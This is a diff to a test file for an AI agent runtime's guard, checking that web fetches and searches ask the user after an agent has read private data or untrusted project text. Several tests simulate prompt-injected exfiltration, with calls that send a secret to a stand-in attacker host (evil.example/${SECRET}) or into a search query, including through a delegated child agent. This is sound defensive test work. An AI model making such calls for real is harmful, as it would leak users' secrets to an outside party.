@@ -161,8 +161,20 @@ test("a run that knows nothing private, or holds no untrusted text, composes add
     get("composed.example/1"),
     search("words"),
   ]);
-  await play([readSecret, get("composed.example/2"), get("composed.example/2")]);
+  const trusted = { settings: { web: { ...DEFAULT_WEB }, trustedProjects: [root] } };
+  await play([readSecret, get("composed.example/2"), get("composed.example/2")], "go", trusted);
   expect(asked).toEqual([]);
+});
+
+test("what the project's files say reaches nobody without a question, unless the person trusts the project", async () => {
+  await play([readSecret, get("composed.example/2"), search("words")]);
+  expect(asked.map(({ tool, tainted }) => [tool, tainted])).toEqual([
+    ["web_fetch", false],
+    ["web_search", false],
+  ]);
+  expect(asked[0]?.reason).toContain("text of the project, which others may have written");
+  await play([readSecret, get("composed.example/3")], "go", { allowedTools: ["web_fetch"] });
+  expect(asked).toHaveLength(2);
 });
 
 /** The address that a model would like to be taken for a known one. */
@@ -360,8 +372,12 @@ test("a parent knows what its child read to be private, and a child what it was 
     fetcher: [search(SECRET), done],
   });
   const result = await t.runtime.run({ agent: "lead", task: "go" });
-  expect(asked.map(({ tool }) => tool)).toEqual(["web_fetch", "web_search"]);
-  expect(result).toMatchObject({ tainted: true, private_data: true });
+  expect(asked.map(({ input }) => input)).toEqual([
+    { url: web.at("evil.example/") },
+    { url: web.at(`evil.example/${SECRET}`) },
+    { query: SECRET },
+  ]);
+  expect(result).toMatchObject({ private_data: true });
 });
 
 test("files handed over with a task are private data", async () => {
@@ -369,7 +385,7 @@ test("files handed over with a task are private data", async () => {
     lead: [callDelegate("scout", "look", { contextFiles: ["secret.txt"] }), done],
     scout: [hostile(), get(`evil.example/${SECRET}`), done],
   });
-  await t.runtime.run({ agent: "lead", task: "go" });
+  await t.runtime.run({ agent: "lead", task: `Look at ${web.at("evil.example/")}` });
   expect(asked).toHaveLength(1);
 });
 
